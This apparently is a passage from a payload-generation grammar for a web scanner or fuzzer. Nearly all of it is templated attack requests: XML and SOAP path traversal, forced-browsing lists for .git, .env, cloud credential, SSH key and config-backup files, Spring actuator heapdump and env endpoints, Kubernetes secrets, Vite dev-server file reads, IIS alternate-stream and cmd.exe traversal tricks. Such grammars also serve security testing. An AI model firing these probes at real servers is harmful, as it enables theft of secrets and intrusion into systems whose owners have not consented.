traversal/xml [body-xml] 1: <soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><‹=r:‹~3-9››><‹=t:‹tr.param››>‹xml!‹tr.climb››</‹=t›></‹=r›></soapenv:Body></soapenv:Envelope>
  <?xml version="1.0"?><‹=r:‹~3-8››><‹=t:‹~2-8››>‹xml!‹‹tr.climb›¦/‹:s:/›‹tr.unix›¦file:///‹:s:/›‹tr.unix›¦‹:s:\›C:\‹tr.drive›››</‹=t›></‹=r›>
  <?xml version="1.0"?><‹=r:‹~3-8›› ‹~2-6›="‹n›" ‹tr.param›="‹xml!‹tr.climb››"/>
  <?xml version="1.0"?><methodCall><methodName>‹~3-8›.‹get¦read¦download›File</methodName><params><param><value><string>‹xml!‹‹tr.climb›¦/‹:s:/›‹tr.unix›››</string></value></param></params></methodCall>

// Forced browsing: only what no ordinary visitor asks for.
tr.vcs = .git/config .git/config .git/HEAD .git/HEAD .git/index .git/logs/HEAD .git/refs/heads/‹master¦main¦develop› .git/packed-refs .git/COMMIT_EDITMSG .git/description
  .git/FETCH_HEAD .git/ORIG_HEAD .git/info/exclude .git/info/refs .git/objects/‹%2›/‹%38› .git/objects/pack/pack-‹%40›.pack .git/hooks/pre-commit.sample .git/
  .git-credentials .gitconfig .gitmodules .gitlab-ci.yml .svn/entries .svn/wc.db .svn/all-wcprops .svn/text-base/index.php.svn-base .hg/hgrc .hg/store/00manifest.i .hg/dirstate
  .bzr/branch/branch.conf .bzr/README CVS/Root CVS/Entries _darcs/prefs/binaries
tr.dotfile = .env .env .env .env.local .env.dev .env.development .env.prod .env.production .env.staging .env.test .env.bak .env.backup .env.old .env.save .env.orig .env.example .env~
  .env.php .env.js .env.json .env_‹~1-5› .env.‹~2-8› .envrc .flaskenv .aws/credentials .aws/config .ssh/id_rsa .ssh/id_ed25519 .ssh/authorized_keys .ssh/known_hosts
  .bash_history .zsh_history .mysql_history .bashrc .profile .htpasswd .htaccess .htpasswds .DS_Store .idea/workspace.xml .idea/dataSources.xml .idea/WebServers.xml
  .vscode/sftp.json .vscode/settings.json .vscode/launch.json .npmrc .yarnrc .pypirc .netrc .pgpass .my.cnf .docker/config.json .dockercfg .dockerenv .kube/config
  .ftpconfig .ftppass .remote-sync.json .sftp.json .s3cfg .boto .config/gcloud/credentials.db .azure/accessTokens.json .terraform/terraform.tfstate .composer/auth.json
  .user.ini .php_cs.cache .phpunit.result.cache .wp-config.php.swp .index.php.swp .config.php.swp .‹~3-9›.php.swp .web.config.swp .msmtprc .passwd .credentials .secrets
  .viminfo .serverless/config.json .streamlit/secrets.toml .next/BUILD_ID .nuxt/dist/server/server.manifest.json
tr.conf = wp-config.php.bak wp-config.php.old wp-config.php.save wp-config.php.swp wp-config.php~ wp-config.php.txt wp-config.php.orig wp-config.php.zip wp-config.txt wp-config.old
  wp-config.inc wp-config-backup.txt wp-config.php.‹#1-9› wp-config.php.‹~3-6› wp-config.php configuration.php.bak configuration.php~ configuration.php-dist config.php.bak config.php~ config.inc.php.old
  settings.php.bak sites/default/settings.php~ database.php.bak db.php.bak LocalSettings.php~ web.config web.config.bak web.config.old connectionstrings.config app.config
  appsettings.json appsettings.Development.json application.yml application.properties application-prod.yml bootstrap.yml config/database.yml config/secrets.yml config/master.key
  config/credentials.yml.enc config/parameters.yml app/config/parameters.yml app/etc/env.php app/etc/local.xml config/config.ini config.ini db.ini database.yml secrets.yml
  secrets.json credentials.json service-account.json firebase-adminsdk.json gcp-key.json auth.json docker-compose.yml docker-compose.override.yml Dockerfile
  terraform.tfstate terraform.tfstate.backup terraform.tfvars ansible.cfg inventory.ini kubeconfig id_rsa id_rsa.pub id_dsa server.key
  private.key privatekey.pem privkey.pem key.pem ssl/private.key certs/server.key localhost.key wallet.dat keystore.jks local_settings.py settings.py
  sftp-config.json ftpsync.settings nginx.conf httpd.conf php.ini my.cnf passwd.txt passwords.txt users.txt password.lst
  nohup.out php_errorlog error_log debug.log npm-debug.log yarn-error.log access.log access_log error.log wp-content/debug.log storage/logs/laravel.log var/log/dev.log logs/error.log app/logs/prod.log
  log/production.log WEB-INF/web.xml META-INF/context.xml crossdomain.xml.bak global.asax.bak Trace.axd elmah.axd glimpse.axd
tr.status = server-status server-info nginx_status fpm-status php-fpm/status stub_status trace.axd phpinfo.php info.php php_info.php pinfo.php phpversion.php
  _phpinfo.php infophp.php _profiler/phpinfo _profiler/latest app_dev.php/_profiler app_dev.php telescope/requests _ignition/health-check
  _ignition/execute-solution _debugbar/open debug/default/view __debug__/render_panel rails/info/properties rails/info/routes debug/pprof debug/pprof/heap debug/pprof/goroutine
  debug/vars debug/requests jolokia jolokia/list jolokia/read/java.lang:type=Memory jolokia/version hawtio druid/index.html druid/websession.json druid/weburi.json druid/sql.html
  manager/text/list manager/status/all host-manager/html jmx-console/ web-console/ServerInfo.jsp web-console/Invoker invoker/JMXInvokerServlet invoker/EJBInvokerServlet status/full.jsp
  wls-wsat/CoordinatorPortType _async/AsyncResponseService bea_wls_internal/ axis2/services/listServices axis2-admin/ happyaxis.jsp solr/admin/cores solr/admin/info/system
  _cat/indices _cat/nodes _nodes/stats _all/_search _cluster/settings _snapshot/_all _users/_all_docs _all_dbs _utils/ _config v2/_catalog
  v1/agent/self api/v1/namespaces/kube-system/secrets api/v1/secrets v1.24/containers/json v1.41/images/json sap/bc/soap/rfc sap/public/info cgi-bin/printenv cgi-bin/test-cgi
  cgi-bin/env.pl cgi-bin/phpinfo.cgi phpmyadmin/scripts/setup.php phpmyadmin/setup/index.php adminer.php adminer-‹#4-5›.‹#0-9›.‹#0-9›.php mysql/dumper.php pma/index.php sqlite/main.php
  vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php vendor/composer/installed.json vendor/.env node_modules/.package-lock.json
  remote/fgt_lang owa/auth/x.js HNAP1/ GponForm/diag_Form boaform/admin/formLogin portal/redlion
tr.boot = env heapdump threaddump configprops mappings trace httptrace loggers beans shutdown gateway/routes jolokia logfile sessions refresh restart auditevents
  scheduledtasks conditions caches dump metrics/jvm.memory.used liquibase flyway integrationgraph features hystrix.stream nacos-discovery env/spring.datasource.password prometheus.bak
tr.archive = zip tar.gz tgz tar rar 7z sql.gz tar.bz2 gz bz2
tr.dumpname = backup backups bak www wwwroot web website public_html html htdocs httpdocs db database dump mysql sql full_backup oldsite root ftp
  backup_20‹#15-26› backup-20‹#15-26›-0‹#1-9›-‹#10-28› ‹~3-9›_backup db_backup sitebackup localhost ‹host› wordpress
tr.kept = bak old orig save swp swo tmp copy backup bk 1 2 dist inc txt src ~ bkp bac original rej sav zip
tr.prefix: 12× ∅
  ‹app¦api¦laravel¦web¦public¦backend¦src¦core¦site¦wp¦blog¦dev¦test¦old¦new¦admin¦shop¦v1¦v2¦html¦www¦cms¦crm¦backup¦staging¦prod¦config¦static¦assets¦storage¦docker¦vendor¦server¦.well-known¦‹~3-8››/
  ‹~3-8›/‹~3-8›/
traversal/secret [path] 10: 6× /‹tr.prefix›‹tr.vcs›
  8× /‹tr.prefix›‹tr.dotfile›
  7× /‹tr.prefix›‹tr.conf›
  6× /‹tr.prefix›‹tr.status›
  4× /‹tr.prefix›‹actuator¦actuator¦admin/actuator¦‹~3-8›/actuator¦actuator;¦.;/actuator¦%61ctuator¦actuator/.›/‹tr.boot›
  /‹manage¦management¦monitor¦admin¦internal¦‹~3-8››/‹env¦heapdump¦threaddump¦configprops¦jolokia/list¦httptrace¦logfile›
  /‹tr.prefix›‹/¦./¦%2e/¦;/¦%2f¦.%2f›‹‹tr.vcs›¦‹tr.dotfile›¦‹tr.conf›¦‹tr.status››
  /‹tr.prefix›‹‹tr.vcs›¦‹tr.dotfile›¦‹tr.conf››‹/¦%20¦.¦%00¦;¦;.css¦%23¦%3f.js¦/.¦::§DATA¦%0a¦%09¦%5c›
  /‹tr.prefix›‹%2egit/config¦%2e%67it/HEAD¦.g%69t/config¦%2eenv¦.%65nv¦.e%6ev¦%2Eaws/credentials¦.GIT/config¦.Env¦%252egit/config¦.git%2fconfig¦.git%5cconfig¦GIT~1/config¦.git./config›
  /‹tr.prefix›‹heapdump¦configprops¦threaddump¦httptrace¦jolokia/list¦env.json¦gateway/routes›
traversal/backup [path] 4: 3× /‹tr.prefix›‹tr.dumpname›.‹tr.archive›
  2× /‹tr.prefix›‹tr.dumpname›.‹sql¦bak¦old¦mdb¦sqlite¦sqlite3¦db¦dump¦sql.zip¦mysql›
  2× /‹tr.prefix›‹index¦login¦admin¦config¦db¦main¦functions¦connect¦init¦settings¦home¦user¦upload¦api¦common¦‹~3-8››.‹php¦asp¦aspx¦jsp¦py¦cgi¦inc›.‹tr.kept›
  /‹tr.prefix›‹index¦login¦config¦db¦connect¦‹~3-8››.‹php¦asp¦aspx¦jsp¦inc›‹~¦.~‹#1-9›~¦_bak¦_old¦-backup¦.save.‹#1-3››
  /‹tr.prefix›‹.¦~¦#¦%23¦Copy%20of%20¦Backup%20of%20›‹index¦login¦config¦db¦‹~3-8››.‹php¦asp¦jsp›‹.swp¦.swo¦.un~¦#¦.bak¦.tmp¦.lock›
  /‹backup¦backups¦dump¦dumps¦sql¦db¦_db¦database¦bak¦old¦sqlbackup¦mysqldumps›/‹‹tr.dumpname›.‹tar.gz¦zip¦tgz›¦‹~3-9›.‹sql¦sql.gz¦bak¦dump››
  /wp-content/‹uploads/dump.sql¦backup-‹%6›/‹~3-9›.zip¦mysql.sql¦updraft/‹~3-8›.gz¦ai1wm-backups/‹~3-8›.wpress¦backups/‹~3-8›.zip¦uploads/backwpup-‹%8›-logs/›
  /‹App_Data¦data¦db¦_private¦fpdb›/‹~3-9›.‹mdb¦accdb¦mdf¦sdf¦sqlite¦bak›
traversal/dev-server [path] 2: /@fs/‹:s:/›‹‹tr.unix›¦C:/windows/win.ini¦‹tr.unix›%3fraw¦‹tr.unix›%3fimport&raw¦app/.env¦x/x/x/vite/.env¦‹×3-7:../›‹tr.unix››
  /@fs/‹C:¦D:›/‹:s:/›‹tr.drive›
  /@‹id¦vite¦react-refresh›/‹×3-7:../›‹:s:/›‹tr.unix›
  /‹node_modules¦_next¦_nuxt¦static¦__webpack_dev_server__¦_next/static¦.vite/deps¦@modules›/‹×3-9:‹../¦..%2f¦%2e%2e/¦..%5c››‹:s:/›‹tr.unix›
  /__‹open-in-editor¦open-stack-frame-in-editor¦nextjs_original-stack-frame¦inspect¦file¦web/dist›/‹:s:/›‹tr.unix›
  /‹:s:/›/‹×2-8:../›‹tr.unix›%3f‹raw¦url¦import¦inline›
  /‹:s:/›_nuxt/@fs/‹tr.unix›
  /‹file:¦file%3a¦webpack:›//‹/¦›‹:s:/›‹tr.unix›
traversal/iis [path] 2: /‹‹~3-8›.‹asp¦aspx¦php¦config›¦web.config¦global.asa›‹::§DATA¦::§data¦%3a%3a§data¦:§DATA¦::§DATA.jpg›
  /‹bin¦App_Data¦App_Code›‹::§INDEX_ALLOCATION/¦:§i30:§INDEX_ALLOCATION/›‹~3-8›.‹dll¦mdf¦cs›
  /(S(‹~1-24›))/‹b¦B›/(S(‹~1-24›))in/‹~3-9›.dll
  /‹~1-6›*~‹#1-4›*/‹.aspx¦a.aspx¦~1/.rem¦›
  /*~1*/a.aspx
  /‹^4-6›~‹#1-3›‹/.aspx¦.ASP¦.CON¦/¦.ZIP›
  /global.asa‹+.htr¦%20¦%2e¦\¦%81¦.bak›
  /‹null¦‹~3-8››.‹htw¦ida¦idq¦htr¦printer¦shtml¦ht%77›
  /_vti_pvt/‹service.pwd¦authors.pwd¦users.pwd¦administrators.pwd¦doctodep.btr›
  /_vti_‹bin/shtml.exe¦inf.html¦cnf/›
  /‹~3-8›.asp‹%5c¦%2e¦%20¦%20%20%20.htr¦\¦%81›
  /‹scripts¦msadc¦cgi-bin¦iissamples›/‹×1-5:‹..%255c¦..%c1%1c¦..%c0%9v¦..%c0%qf¦..%fc%80%80%80%80%af››winnt/system32/‹cmd.exe¦ipconfig.exe›
  /‹trace¦Trace¦elmah¦Elmah›.axd‹¦/download¦%20¦.cs›
  /‹aspnet_client¦App_Data¦App_GlobalResources¦bin›/‹..%5c..%5cweb.config¦‹~3-8›.‹mdf¦resx¦dll¦pdb››
traversal/odd-dots 2: ‹...¦....¦..;¦.%00.¦.?.¦..%00¦...;›‹/¦\¦%2f¦//¦\\¦%5c›‹anyword›
  ‹anyword›/‹...¦....¦..;¦..%00¦.../...¦..;/..;›/‹anyword›
  ‹×2-5:‹...¦....¦..;¦....//¦...\.\›‹/¦\››‹anyword›
`
